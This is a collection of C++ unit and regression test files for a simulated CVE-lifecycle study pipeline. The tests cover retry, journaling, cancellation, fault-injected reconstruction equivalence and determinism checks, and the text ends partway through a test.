TEST(RetryIo, SucceedsAfterTransientFailures) {
  util::RetryPolicy policy;
  policy.max_retries = 5;
  policy.backoff_base = std::chrono::microseconds(0);
  int attempts = 0;
  int retries_seen = 0;
  const bool ok = util::retry_io(
      policy, nullptr, [&] { return ++attempts == 3; }, [&](int) { ++retries_seen; });
  EXPECT_TRUE(ok);
  EXPECT_EQ(attempts, 3);
  EXPECT_EQ(retries_seen, 2);
}

TEST(RetryIo, ExhaustionReportsFailureAfterExactlyTheBudget) {
  util::RetryPolicy policy;
  policy.max_retries = 3;
  policy.backoff_base = std::chrono::microseconds(0);
  int attempts = 0;
  const bool ok = util::retry_io(
      policy, nullptr,
      [&] {
        ++attempts;
        return false;
      },
      [](int) {});
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 4);  // first try + 3 retries
}

TEST(RetryIo, FiredCancelTokenStopsRetrying) {
  util::RetryPolicy policy;
  policy.max_retries = 100;
  policy.backoff_base = std::chrono::microseconds(0);
  util::CancelToken token;
  token.request_cancel();
  int attempts = 0;
  const bool ok = util::retry_io(
      policy, &token,
      [&] {
        ++attempts;
        return false;
      },
      [](int) {});
  EXPECT_FALSE(ok);
  EXPECT_EQ(attempts, 1);  // no retries past the cancellation
}

// ------------------------------------------------------------ StudyError

TEST(StudyError, CarriesClassAndStage) {
  const StudyError error(ErrorClass::kRetryable, "traffic", "disk full");
  EXPECT_EQ(error.error_class(), ErrorClass::kRetryable);
  EXPECT_EQ(error.stage(), "traffic");
  const std::string what = error.what();
  EXPECT_NE(what.find("traffic"), std::string::npos);
  EXPECT_NE(what.find("retryable"), std::string::npos);
  EXPECT_NE(what.find("disk full"), std::string::npos);
  EXPECT_STREQ(error_class_name(ErrorClass::kDegradable), "degradable");
  EXPECT_STREQ(error_class_name(ErrorClass::kFatal), "fatal");
  EXPECT_STREQ(error_class_name(ErrorClass::kCancelled), "cancelled");
}

// ------------------------------------------------------- ManifestJournal

TEST(ManifestJournal, RecordsStagesAndRoundTrips) {
  const fs::path dir = fresh_dir("roundtrip");
  {
    ManifestJournal journal(dir, "runkey_a");
    EXPECT_EQ(journal.begin(42), 0u);  // nothing prior to adopt
    // A just-begun manifest (zero checkpoints) must already round-trip.
    const auto just_begun = journal.load();
    ASSERT_TRUE(just_begun.has_value());
    EXPECT_EQ(just_begun->status, "running");
    EXPECT_TRUE(just_begun->stages.empty());
    journal.record_stage("traffic", "key_t", "digest_t");
    journal.record_stage("faults", "key_f", "digest_f");
    // Re-recording (recompute after a corrupt entry) replaces, not appends.
    journal.record_stage("faults", "key_f", "digest_f2");
    journal.complete();
  }
  ManifestJournal reader(dir, "runkey_a");
  const auto loaded = reader.load();
  ASSERT_TRUE(loaded.has_value());
  EXPECT_EQ(loaded->run_key, "runkey_a");
  EXPECT_EQ(loaded->seed, 42u);
  EXPECT_EQ(loaded->status, "complete");
  ASSERT_EQ(loaded->stages.size(), 2u);
  ASSERT_NE(loaded->find("faults"), nullptr);
  EXPECT_EQ(loaded->find("faults")->digest, "digest_f2");
  EXPECT_EQ(loaded->find("reconstruct"), nullptr);
  fs::remove_all(dir);
}

TEST(ManifestJournal, DestructionWithoutCompleteMarksInterrupted) {
  const fs::path dir = fresh_dir("interrupted");
  {
    ManifestJournal journal(dir, "runkey_b");
    journal.begin(7);
    journal.record_stage("traffic", "key_t", "digest_t");
    // No complete(): this is what a cooperative-cancel unwind leaves.
  }
  const auto loaded = ManifestJournal(dir, "runkey_b").load();
  ASSERT_TRUE(loaded.has_value());
  EXPECT_EQ(loaded->status, "interrupted");
  ASSERT_EQ(loaded->stages.size(), 1u);
  fs::remove_all(dir);
}

TEST(ManifestJournal, BeginAdoptsPriorCheckpointsForTheSameRun) {
  const fs::path dir = fresh_dir("adopt");
  {
    ManifestJournal journal(dir, "runkey_c");
    journal.begin(9);
    journal.record_stage("traffic", "key_t", "digest_t");
    journal.record_stage("faults", "key_f", "digest_f");
  }
  obs::Observability observability;
  ManifestJournal resumed(dir, "runkey_c", nullptr, {}, &observability);
  EXPECT_EQ(resumed.begin(9), 2u);
  EXPECT_EQ(observability.metrics.snapshot().counters.at("resume/stages_prior"), 2u);
  // A seed mismatch (same run_key should make this impossible, but belt
  // and braces) rejects the prior checkpoints wholesale.
  ManifestJournal reseeded(dir, "runkey_c");
  EXPECT_EQ(reseeded.begin(10), 0u);
  fs::remove_all(dir);
}

TEST(ManifestJournal, LoadRejectsForeignAndMangledManifests) {
  const fs::path dir = fresh_dir("reject");
  {
    ManifestJournal journal(dir, "runkey_d");
    journal.begin(1);
    journal.complete();
  }
  // A journal for a different run key does not see this manifest (distinct
  // file name), and a mangled file is ignored, never trusted.
  EXPECT_FALSE(ManifestJournal(dir, "runkey_other").load().has_value());
  ManifestJournal reader(dir, "runkey_d");
  ASSERT_TRUE(reader.load().has_value());
  std::ofstream(reader.path(), std::ios::trunc) << "{not json";
  EXPECT_FALSE(reader.load().has_value());
  fs::remove_all(dir);
}

TEST(ManifestJournal, PersistFailureDegradesToAMetricNeverAnAbort) {
  const fs::path dir = fresh_dir("degrade");
  chaos::FsFaultPlan plan;
  plan.seed = 12;
  plan.enospc_write_rate = 1.0;
  obs::Observability observability;
  chaos::FsShim shim(plan, &observability);
  {
    ManifestJournal journal(dir, "runkey_e", &shim, {}, &observability);
    EXPECT_NO_THROW(journal.begin(5));
    EXPECT_NO_THROW(journal.record_stage("traffic", "k", "d"));
    EXPECT_NO_THROW(journal.complete());
  }
  const auto counters = observability.metrics.snapshot().counters;
  EXPECT_GE(counters.at("manifest/write_failed"), 3u);
  EXPECT_EQ(counters.count("manifest/write"), 0u);
  // Nothing durable -- and nothing stranded either.
  EXPECT_FALSE(ManifestJournal(dir, "runkey_e").load().has_value());
  fs::remove_all(dir);
}

// -------------------------------------------------------- RunSupervisor

StudyConfig tiny_config(std::uint64_t seed, const std::string& cache_dir) {
  StudyConfig config;
  config.seed = seed;
  config.threads = 2;
  config.event_scale = 0.02;
  config.background_per_day = 3.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 8;
  config.pool_size = 20000;
  config.cache_dir = cache_dir;
  return config;
}

TEST(RunSupervisor, CompleteRunReportsOkWithAResult) {
  RunSupervisor supervisor(tiny_config(11, ""));
  const RunReport report = supervisor.run();
  EXPECT_TRUE(report.ok());
  EXPECT_EQ(report.status, RunStatus::kComplete);
  ASSERT_TRUE(report.result.has_value());
  EXPECT_EQ(report.message, "");
  EXPECT_FALSE(report.resumable);
}

TEST(RunSupervisor, PreFiredTokenCancelsBeforeAnyStage) {
  auto config = tiny_config(11, "");
  RunSupervisor supervisor(config);
  supervisor.cancel_token().request_cancel();
  const RunReport report = supervisor.run();
  EXPECT_FALSE(report.ok());
  EXPECT_EQ(report.status, RunStatus::kCancelled);
  EXPECT_EQ(report.error_class, ErrorClass::kCancelled);
  EXPECT_FALSE(report.result.has_value());
  // No cache dir -> no journal -> nothing to resume from.
  EXPECT_FALSE(report.resumable);
}

TEST(RunSupervisor, ExternalTokenWinsOverTheOwnedOne) {
  util::CancelToken external;
  auto config = tiny_config(11, "");
  config.cancel = &external;
  RunSupervisor supervisor(config);
  EXPECT_EQ(&supervisor.cancel_token(), &external);
  external.request_cancel();
  EXPECT_EQ(supervisor.run().status, RunStatus::kCancelled);
}

TEST(RunSupervisor, CancellationWithAJournalIsResumable) {
  const fs::path dir = fresh_dir("resumable");
  auto config = tiny_config(11, dir.string());
  config.chaos_cancel_after_stage = "traffic";
  const RunReport report = RunSupervisor(config).run();
  EXPECT_EQ(report.status, RunStatus::kCancelled);
  EXPECT_TRUE(report.resumable);
  fs::remove_all(dir);
}

TEST(RunSupervisor, ExpiredStageDeadlineReportsDeadline) {
  auto config = tiny_config(11, "");
  config.stage_deadline = std::chrono::milliseconds(1);
  // The traffic stage takes well over 1ms; some cancellation point inside
  // it must observe the armed deadline.
  const RunReport report = RunSupervisor(config).run();
  EXPECT_EQ(report.status, RunStatus::kDeadline);
  EXPECT_EQ(report.error_class, ErrorClass::kCancelled);
  EXPECT_FALSE(report.result.has_value());
}

TEST(RunSupervisor, StatusAndClassNamesAreStable) {
  EXPECT_STREQ(run_status_name(RunStatus::kComplete), "complete");
  EXPECT_STREQ(run_status_name(RunStatus::kCancelled), "cancelled");
  EXPECT_STREQ(run_status_name(RunStatus::kDeadline), "deadline");
  EXPECT_STREQ(run_status_name(RunStatus::kFailed), "failed");
}

}  // namespace
}  // namespace cvewb::pipeline
