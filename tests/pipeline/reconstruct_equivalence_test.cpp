// Engine-equivalence regression: the SoA/arena reconstruct() against the
// retained pre-rewrite baseline, byte for byte.  reconstruct_baseline is
// the executable output contract of the rewrite (kept verbatim from
// before the hot-loop rework), so any divergence here is a correctness
// bug in the new engine, not a tolerance question.  Corpora cover the
// pristine capture plus each fault class in isolation -- truncation,
// corruption, duplication, reorder, clock skew, blackouts, loss -- since
// each stresses a different reconstruct path (short payloads, garbage
// bytes in the parser, exact-dup suppression, out-of-order opens).
// A repeated run_study sweep at the end exercises arena reuse across
// studies; ASan rides along in the sanitizer job.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "cache/serialize.h"
#include "data/appendix_e.h"
#include "faults/fault_injector.h"
#include "ids/rule_gen.h"
#include "pipeline/reconstruct.h"
#include "pipeline/reconstruct_baseline.h"
#include "pipeline/session_frame.h"
#include "pipeline/study.h"
#include "traffic/internet.h"
#include "util/rng.h"
#include "util/sha256.h"

#include "../support/study_serialize.h"

namespace cvewb::pipeline {
namespace {

// Small corpus shared by every fault-class case (built once; the fault
// injector copies it per plan).
const traffic::GeneratedTraffic& base_corpus() {
  static const traffic::GeneratedTraffic corpus = [] {
    StudyConfig config;
    config.seed = 5081;
    config.event_scale = 0.03;
    config.background_per_day = 5.0;
    config.credstuff_per_day = 1.0;
    config.telescope_lanes = 10;
    config.pool_size = 50000;
    const telescope::Dscope dscope = make_study_telescope(config);
    traffic::InternetConfig internet;
    internet.seed = config.seed;
    internet.event_scale = config.event_scale;
    internet.background_per_day = config.background_per_day;
    internet.credstuff_per_day = config.credstuff_per_day;
    return traffic::generate_traffic(dscope, internet);
  }();
  return corpus;
}

void expect_engines_agree(const std::vector<net::TcpSession>& sessions, const char* label) {
  const ids::RuleSet ruleset = ids::generate_study_ruleset();
  ReconstructOptions options;
  options.window_begin = data::study_begin();
  options.window_end = data::study_end();
  const Reconstruction baseline = reconstruct_baseline(sessions, ruleset, options);
  const Reconstruction rewrite = reconstruct(sessions, ruleset, options);
  const std::string baseline_bytes = cache::encode_reconstruction(baseline);
  const std::string rewrite_bytes = cache::encode_reconstruction(rewrite);
  ASSERT_EQ(util::sha256_hex(baseline_bytes), util::sha256_hex(rewrite_bytes)) << label;
  ASSERT_EQ(baseline_bytes, rewrite_bytes) << label;
}

TEST(ReconstructEquivalence, PristineCorpus) {
  expect_engines_agree(base_corpus().sessions, "pristine");
}

struct FaultCase {
  const char* name;
  void (*arm)(faults::FaultPlan&);
};

class ReconstructEquivalenceFaults : public ::testing::TestWithParam<FaultCase> {};

TEST_P(ReconstructEquivalenceFaults, EnginesAgreeUnderTheFaultClass) {
  faults::FaultPlan plan;
  plan.lanes = 10;
  GetParam().arm(plan);
  const faults::FaultedCorpus degraded = faults::inject_faults(base_corpus(), plan, 5081);
  expect_engines_agree(degraded.traffic.sessions, GetParam().name);
}

INSTANTIATE_TEST_SUITE_P(
    FaultClasses, ReconstructEquivalenceFaults,
    ::testing::Values(
        // Truncation: snaplen cuts payloads mid-request -- partial HTTP
        // lines, short buffers, the views' bounds checks.
        FaultCase{"snaplen", [](faults::FaultPlan& p) { p.snaplen = 120; }},
        // Corruption: garbage bytes through the parser and percent-decoder
        // (including '%' bytes that disable the URI aliasing fast path).
        FaultCase{"corruption",
                  [](faults::FaultPlan& p) {
                    p.corruption_rate = 0.08;
                    p.corruption_byte_fraction = 0.10;
                  }},
        // Duplication: the hash-partitioned exact-dup suppression table.
        FaultCase{"duplication", [](faults::FaultPlan& p) { p.duplication_rate = 0.10; }},
        // Reorder + skew: out-of-order opens through the SoA time columns.
        FaultCase{"reorder",
                  [](faults::FaultPlan& p) {
                    p.reorder_rate = 0.10;
                    p.reorder_max_displacement = 16;
                    p.clock_skew_max = util::Duration::minutes(10);
                  }},
        // Loss + blackouts: sparse inputs and window-edge sessions.
        FaultCase{"loss",
                  [](faults::FaultPlan& p) {
                    p.session_loss_rate = 0.08;
                    p.blackout_count = 2;
                    p.blackout_duration = util::Duration::hours(12);
                  }}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(ReconstructEquivalence, RepeatedStudiesReuseArenasCleanly) {
  // Arena scratch is reused across sessions within a run and torn down
  // between runs; repeated full studies through the same process must be
  // byte-stable (and come out clean under ASan in the sanitizer job).
  StudyConfig config;
  config.seed = 11;
  config.threads = 2;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  config.faults.duplication_rate = 0.04;
  config.faults.snaplen = 300;
  config.faults.lanes = 10;
  const std::string first = test_support::serialize_study(run_study(config));
  for (int round = 0; round < 3; ++round) {
    ASSERT_EQ(first, test_support::serialize_study(run_study(config))) << "round " << round;
  }
}

TEST(MatchGroups, GroupsAreAnExactPartitionOnPayloadAndDstPort) {
  // Randomized property over the grouping the scatter path relies on:
  // every row's representative carries byte-identical payload and equal
  // dst_port (src ports deliberately vary inside a group), multiplicities
  // sum back to the row count, representatives appear in first-occurrence
  // order, and no two groups share a key.
  util::Rng rng(0x6d617463);
  const std::vector<std::string> payloads = {
      "", "probe", "probe", "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
      std::string(1000, 'A'), std::string(1000, 'A') + "B"};
  for (int round = 0; round < 20; ++round) {
    std::vector<ids::SessionRef> refs;
    const std::size_t n = 1 + rng.uniform_u64(200);
    for (std::size_t i = 0; i < n; ++i) {
      const auto& payload = payloads[rng.uniform_u64(payloads.size())];
      refs.push_back(ids::SessionRef{payload,
                                     static_cast<std::uint16_t>(rng.uniform_u64(4)),
                                     static_cast<std::uint16_t>(rng.uniform_u64(3))});
    }
    const MatchGroups groups = build_match_groups(refs);
    ASSERT_EQ(groups.group_of.size(), n);
    ASSERT_EQ(groups.unique.size(), groups.multiplicity.size());
    std::size_t members = 0;
    for (const std::uint32_t m : groups.multiplicity) members += m;
    EXPECT_EQ(members, n);
    std::vector<std::uint32_t> seen_first;
    for (std::size_t i = 0; i < n; ++i) {
      const std::uint32_t g = groups.group_of[i];
      ASSERT_LT(g, groups.unique.size());
      EXPECT_EQ(groups.unique[g].payload, refs[i].payload) << "row " << i;
      EXPECT_EQ(groups.unique[g].dst_port, refs[i].dst_port) << "row " << i;
      // First-occurrence order: group ids appear for the first time in
      // ascending sequence as the rows are walked.
      if (std::find(seen_first.begin(), seen_first.end(), g) == seen_first.end()) {
        EXPECT_EQ(g, seen_first.size());
        seen_first.push_back(g);
      }
    }
    for (std::size_t a = 0; a < groups.unique.size(); ++a) {
      for (std::size_t b = a + 1; b < groups.unique.size(); ++b) {
        EXPECT_FALSE(groups.unique[a].payload == groups.unique[b].payload &&
                     groups.unique[a].dst_port == groups.unique[b].dst_port)
            << "groups " << a << " and " << b << " share a key";
      }
    }
  }
}

}  // namespace
}  // namespace cvewb::pipeline
