// Stability of the reconstruction under the canonical degraded capture:
// 10 % session loss, 512-byte snaplen, 1 % duplication (ISSUE acceptance
// criteria).  The pipeline must complete without throwing, the
// DataQualityReport must reconcile exactly with the FaultLog, and the
// per-CVE Table-4 skill classification must be stable for >= 90 % of the
// Appendix-E CVEs.
#include <gtest/gtest.h>

#include <map>
#include <string>

#include "lifecycle/desiderata.h"
#include "pipeline/study.h"
#include "report/data_quality.h"

namespace cvewb::pipeline {
namespace {

StudyConfig small_config() {
  StudyConfig config;
  config.seed = 1234;
  // Large enough that every CVE keeps multiple witnesses per lifecycle
  // event under 10 % loss; classification flips at this scale would be
  // small-sample artifacts rather than reconstruction failures.
  config.event_scale = 0.15;
  config.background_per_day = 10.0;
  config.credstuff_per_day = 2.0;
  config.telescope_lanes = 20;
  config.pool_size = 100000;
  return config;
}

StudyConfig degraded_config() {
  StudyConfig config = small_config();
  config.faults.lanes = config.telescope_lanes;
  config.faults.session_loss_rate = 0.10;
  config.faults.snaplen = 512;
  config.faults.duplication_rate = 0.01;
  return config;
}

/// Per-CVE classification: the satisfied/violated/unknown verdict of every
/// studied desideratum, encoded as a compact string.
std::map<std::string, std::string> classify(const std::vector<lifecycle::Timeline>& timelines) {
  std::map<std::string, std::string> classes;
  for (const auto& tl : timelines) {
    std::string code;
    for (const auto& d : lifecycle::studied_desiderata()) {
      const auto verdict = tl.precedes(d.before, d.after);
      code += !verdict ? '?' : (*verdict ? '1' : '0');
    }
    classes[tl.cve_id()] = code;
  }
  return classes;
}

class DegradedPipelineTest : public ::testing::Test {
 protected:
  static const StudyResult& clean() {
    static const StudyResult r = run_study(small_config());
    return r;
  }
  static const StudyResult& degraded() {
    static const StudyResult r = run_study(degraded_config());
    return r;
  }
};

TEST_F(DegradedPipelineTest, CompletesAndInjectsTheCanonicalFaults) {
  // run_study already ran inside the fixture without throwing; check the
  // faults actually happened at the requested magnitudes.
  const auto& log = degraded().fault_log;
  EXPECT_TRUE(log.consistent());
  EXPECT_EQ(log.sessions_in, clean().traffic.sessions.size());
  const double expected_loss = 0.10 * static_cast<double>(log.sessions_in);
  EXPECT_NEAR(static_cast<double>(log.count(faults::FaultKind::kSessionLoss)), expected_loss,
              expected_loss * 0.25);
  EXPECT_GT(log.count(faults::FaultKind::kDuplication), 0u);
  EXPECT_GT(log.count(faults::FaultKind::kTruncation), 0u);
  for (const auto& session : degraded().traffic.sessions) {
    EXPECT_LE(session.payload.size(), 512u);
  }
}

TEST_F(DegradedPipelineTest, DataQualityReportReconcilesExactly) {
  const report::DataQualityReport quality = report::data_quality_report(degraded());
  const auto mismatches = quality.reconcile();
  EXPECT_TRUE(mismatches.empty()) << quality.render();
  EXPECT_EQ(quality.sessions_scanned, degraded().traffic.sessions.size());
  EXPECT_EQ(quality.observed.duplicates_removed,
            degraded().fault_log.count(faults::FaultKind::kDuplication));
  // The render is a human-readable closed loop; sanity-check it mentions
  // the reconciliation verdict.
  EXPECT_NE(quality.render().find("reconciliation: OK"), std::string::npos);
}

TEST_F(DegradedPipelineTest, CleanRunReportIsAllZeroFaults) {
  const report::DataQualityReport quality = report::data_quality_report(clean());
  EXPECT_TRUE(quality.reconcile().empty()) << quality.render();
  for (std::size_t k = 0; k < faults::kFaultKindCount; ++k) EXPECT_EQ(quality.injected[k], 0u);
  EXPECT_EQ(quality.observed.duplicates_removed, 0u);
}

TEST_F(DegradedPipelineTest, SkillClassificationStableForMostCves) {
  const auto clean_classes = classify(clean().reconstruction.timelines);
  const auto degraded_classes = classify(degraded().reconstruction.timelines);
  ASSERT_FALSE(clean_classes.empty());
  std::size_t stable = 0;
  for (const auto& [cve, code] : clean_classes) {
    const auto it = degraded_classes.find(cve);
    stable += (it != degraded_classes.end() && it->second == code) ? 1 : 0;
  }
  const double fraction =
      static_cast<double>(stable) / static_cast<double>(clean_classes.size());
  EXPECT_GE(fraction, 0.90) << stable << "/" << clean_classes.size()
                            << " CVEs kept their clean-run classification";
}

TEST_F(DegradedPipelineTest, DegradedRunIsDeterministic) {
  const StudyResult again = run_study(degraded_config());
  ASSERT_EQ(again.traffic.sessions.size(), degraded().traffic.sessions.size());
  EXPECT_EQ(again.fault_log.records.size(), degraded().fault_log.records.size());
  EXPECT_EQ(again.reconstruction.sessions_matched, degraded().reconstruction.sessions_matched);
  EXPECT_EQ(classify(again.reconstruction.timelines),
            classify(degraded().reconstruction.timelines));
}

TEST_F(DegradedPipelineTest, MeanSkillCloseToCleanRun) {
  EXPECT_NEAR(degraded().table4.mean_skill(), clean().table4.mean_skill(), 0.05);
}

}  // namespace
}  // namespace cvewb::pipeline
