// Scaling-determinism golden suite: the proof obligation behind the
// stage-DAG rewrite.  For every seed x scenario cell, run_study at
// threads {2, 4, 8} with the stage DAG on and off must reproduce the
// serial reference byte for byte -- same sessions, fault log,
// reconstruction, tables, exposure split.  Scenarios cover the pristine
// pipeline, an active fault plan, and a chaos leg (lossy filesystem under
// the stage cache) so the overlap schedule is proven inert even while
// cache I/O is failing and recompute paths fire.
#include <gtest/gtest.h>

#include <filesystem>
#include <string>

#include "chaos/fs_shim.h"
#include "pipeline/study.h"
#include "util/sha256.h"

#include "../support/study_serialize.h"

namespace cvewb::pipeline {
namespace {

using test_support::serialize_study;

enum class Scenario { pristine, faulted, chaos };

const char* scenario_name(Scenario scenario) {
  switch (scenario) {
    case Scenario::pristine: return "pristine";
    case Scenario::faulted: return "faulted";
    case Scenario::chaos: return "chaos";
  }
  return "?";
}

StudyConfig golden_config(std::uint64_t seed, int threads, bool stage_dag, Scenario scenario) {
  StudyConfig config;
  config.seed = seed;
  config.threads = threads;
  config.stage_dag = stage_dag;
  config.event_scale = 0.03;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 10;
  config.pool_size = 50000;
  if (scenario != Scenario::pristine) {
    config.faults.blackout_count = 2;
    config.faults.blackout_duration = util::Duration::hours(12);
    config.faults.session_loss_rate = 0.03;
    config.faults.snaplen = 300;
    config.faults.corruption_rate = 0.02;
    config.faults.duplication_rate = 0.04;
    config.faults.reorder_rate = 0.05;
    config.faults.clock_skew_max = util::Duration::minutes(10);
    config.faults.lanes = 10;
  }
  return config;
}

struct Cell {
  std::uint64_t seed;
  Scenario scenario;
};

class ScalingGolden : public ::testing::TestWithParam<Cell> {
 protected:
  // One run of the cell's config at (threads, stage_dag), serialized.
  // The chaos scenario additionally routes a fresh stage cache through a
  // lossy FsShim: every run gets its own cache dir (so nothing is served
  // from a previous leg) and its own shim (injection is a deterministic
  // function of the plan, so the fault sequence is identical per run).
  std::string run_leg(int threads, bool stage_dag, const std::string& leg_tag) {
    const Cell cell = GetParam();
    StudyConfig config = golden_config(cell.seed, threads, stage_dag, cell.scenario);
    chaos::FsShim shim{[] {
      chaos::FsFaultPlan plan;
      plan.seed = 77;
      plan.eio_read_rate = 0.10;
      plan.enospc_write_rate = 0.10;
      plan.torn_write_rate = 0.05;
      plan.rename_fail_rate = 0.10;
      return plan;
    }()};
    std::filesystem::path cache_dir;
    if (cell.scenario == Scenario::chaos) {
      cache_dir = std::filesystem::path(::testing::TempDir()) /
                  ("scaling_golden_" + std::to_string(cell.seed) + "_" + leg_tag);
      std::filesystem::remove_all(cache_dir);
      config.cache_dir = cache_dir.string();
      config.fs_shim = &shim;
    }
    const std::string bytes = serialize_study(run_study(config));
    if (!cache_dir.empty()) std::filesystem::remove_all(cache_dir);
    return bytes;
  }
};

TEST_P(ScalingGolden, EveryThreadCountAndSchedulerMatchesTheSerialReference) {
  // threads=1 forces the sequential scheduler regardless of stage_dag;
  // this is the reference every other leg must reproduce exactly.
  const std::string reference = run_leg(1, true, "ref");
  const std::string reference_digest = util::sha256_hex(reference);

  for (const int threads : {2, 4, 8}) {
    for (const bool stage_dag : {false, true}) {
      const std::string tag =
          std::to_string(threads) + (stage_dag ? "t_dag" : "t_seq");
      const std::string leg = run_leg(threads, stage_dag, tag);
      // Digest first for a readable failure line, then full bytes so a
      // regression pinpoints the first diverging record.
      ASSERT_EQ(reference_digest, util::sha256_hex(leg))
          << scenario_name(GetParam().scenario) << " seed " << GetParam().seed
          << " threads=" << threads << " dag=" << stage_dag;
      ASSERT_EQ(reference, leg);
    }
  }
}

INSTANTIATE_TEST_SUITE_P(
    Matrix, ScalingGolden,
    ::testing::Values(Cell{11, Scenario::pristine}, Cell{11, Scenario::faulted},
                      Cell{11, Scenario::chaos}, Cell{5081, Scenario::pristine},
                      Cell{5081, Scenario::faulted}, Cell{5081, Scenario::chaos},
                      Cell{900913, Scenario::pristine}, Cell{900913, Scenario::faulted},
                      Cell{900913, Scenario::chaos}),
    [](const auto& info) {
      return std::string(scenario_name(info.param.scenario)) + "_seed_" +
             std::to_string(info.param.seed);
    });

}  // namespace
}  // namespace cvewb::pipeline
