// Parameterized seed sweep: the study's *conclusions* must not depend on
// the simulation seed.  Event orderings are pinned by Appendix E, so
// Table 4 is bit-identical across seeds; per-event statistics vary only
// within a small band.
#include <gtest/gtest.h>

#include "pipeline/study.h"

namespace cvewb::pipeline {
namespace {

class SeedSweep : public ::testing::TestWithParam<std::uint64_t> {
 protected:
  static StudyResult run_with_seed(std::uint64_t seed) {
    StudyConfig config;
    config.seed = seed;
    config.event_scale = 0.03;
    config.background_per_day = 5.0;
    config.credstuff_per_day = 1.0;
    config.telescope_lanes = 10;
    config.pool_size = 50000;
    return run_study(config);
  }
  static const StudyResult& reference() {
    static const StudyResult r = run_with_seed(101);
    return r;
  }
};

TEST_P(SeedSweep, Table4IsSeedInvariant) {
  const StudyResult result = run_with_seed(GetParam());
  ASSERT_EQ(result.table4.rows.size(), reference().table4.rows.size());
  for (std::size_t i = 0; i < result.table4.rows.size(); ++i) {
    EXPECT_DOUBLE_EQ(result.table4.rows[i].satisfied, reference().table4.rows[i].satisfied)
        << result.table4.rows[i].desideratum;
  }
}

TEST_P(SeedSweep, PerEventMitigationWithinBand) {
  const StudyResult result = run_with_seed(GetParam());
  EXPECT_NEAR(result.exposure.mitigated_fraction(),
              reference().exposure.mitigated_fraction(), 0.02);
}

TEST_P(SeedSweep, AllCvesRecoveredRegardlessOfSeed) {
  const StudyResult result = run_with_seed(GetParam());
  EXPECT_EQ(result.reconstruction.timelines.size(), reference().reconstruction.timelines.size());
}

INSTANTIATE_TEST_SUITE_P(Seeds, SeedSweep, ::testing::Values(7ULL, 1234ULL, 987654321ULL),
                         [](const auto& info) { return "seed_" + std::to_string(info.param); });

}  // namespace
}  // namespace cvewb::pipeline
