#include "pipeline/study.h"

#include <gtest/gtest.h>

#include <map>
#include <set>

#include "ids/rule_gen.h"
#include "report/table.h"

namespace cvewb::pipeline {
namespace {

// One shared small-scale end-to-end run: ~12 k sessions through the full
// telescope -> IDS -> RCA -> lifecycle pipeline.
class PipelineTest : public ::testing::Test {
 protected:
  static StudyConfig config() {
    StudyConfig config;
    config.seed = 1234;
    config.event_scale = 0.05;
    config.background_per_day = 10.0;
    config.credstuff_per_day = 2.0;
    config.telescope_lanes = 20;
    config.pool_size = 100000;
    return config;
  }

  static const StudyResult& result() {
    static const StudyResult r = run_study(config());
    return r;
  }
};

TEST_F(PipelineTest, RecoversAllObservableCves) {
  // Every CVE with attack traffic must survive matching + RCA; the decoy
  // must not.
  std::size_t expected = 0;
  for (const auto& rec : data::appendix_e()) expected += rec.first_attack() ? 1 : 0;
  EXPECT_EQ(result().reconstruction.timelines.size(), expected);  // 62
  for (const auto& tl : result().reconstruction.timelines) {
    EXPECT_NE(tl.cve_id(), std::string(ids::kDecoyCveId));
  }
}

TEST_F(PipelineTest, DecoyCveDroppedByRca) {
  bool decoy_reviewed = false;
  for (const auto& verdict : result().reconstruction.rca.verdicts) {
    if (verdict.cve_id == ids::kDecoyCveId) {
      decoy_reviewed = true;
      EXPECT_FALSE(verdict.kept);
    } else {
      EXPECT_TRUE(verdict.kept) << verdict.cve_id << ": " << verdict.reason;
    }
  }
  EXPECT_TRUE(decoy_reviewed);
}

TEST_F(PipelineTest, ReconstructedFirstAttackMatchesGroundTruth) {
  std::map<std::string, util::TimePoint> tag_first;
  const auto& sessions = result().traffic.sessions;
  for (std::size_t i = 0; i < sessions.size(); ++i) {
    const auto& tag = result().traffic.tags[i];
    if (tag.kind != traffic::TrafficTag::Kind::kExploit) continue;
    const auto it = tag_first.find(tag.cve_id);
    if (it == tag_first.end() || sessions[i].open_time < it->second) {
      tag_first[tag.cve_id] = sessions[i].open_time;
    }
  }
  for (const auto& tl : result().reconstruction.timelines) {
    ASSERT_TRUE(tag_first.count(tl.cve_id())) << tl.cve_id();
    EXPECT_EQ(*tl.at(lifecycle::Event::kAttacks), tag_first.at(tl.cve_id())) << tl.cve_id();
  }
}

TEST_F(PipelineTest, BackgroundTrafficMatchesNothing) {
  // matched = exploit + untargeted + credstuff (decoy); background and
  // follow-on second stages match no signature.
  const auto& traffic = result().traffic;
  const std::size_t non_matching =
      traffic.count_of(traffic::TrafficTag::Kind::kBackground) +
      traffic.count_of(traffic::TrafficTag::Kind::kFollowOn);
  EXPECT_EQ(result().reconstruction.sessions_matched,
            traffic.sessions.size() - non_matching);
}

TEST_F(PipelineTest, UntargetedOgnlSeparatedFromExploitEvents) {
  const auto& per_cve = result().reconstruction.per_cve;
  ASSERT_TRUE(per_cve.count("CVE-2022-26134"));
  const auto& confluence = per_cve.at("CVE-2022-26134");
  EXPECT_GT(confluence.untargeted_sessions, 50u);  // Appendix C leading traffic
  // Reconstructed A is the targeted first attack, not the untargeted one.
  const auto* rec = data::find_cve("CVE-2022-26134");
  EXPECT_EQ(confluence.first_attack, *rec->first_attack());
}

TEST_F(PipelineTest, PipelineModeAgreesWithDatasetMode) {
  // The strongest internal-validity check: Table 4 computed from the
  // end-to-end pipeline must agree with Table 4 computed directly from the
  // embedded Appendix-E dataset.  (One CVE's first attack predates the
  // collection window and is clipped, so allow a 1-2 CVE wobble.)
  const lifecycle::SkillTable dataset = lifecycle::skill_table(lifecycle::study_timelines());
  const lifecycle::SkillTable pipeline = result().table4;
  ASSERT_EQ(dataset.rows.size(), pipeline.rows.size());
  for (std::size_t i = 0; i < dataset.rows.size(); ++i) {
    EXPECT_EQ(dataset.rows[i].desideratum, pipeline.rows[i].desideratum);
    EXPECT_NEAR(dataset.rows[i].satisfied, pipeline.rows[i].satisfied, 0.05)
        << dataset.rows[i].desideratum;
  }
}

TEST_F(PipelineTest, Table4MatchesPaper) {
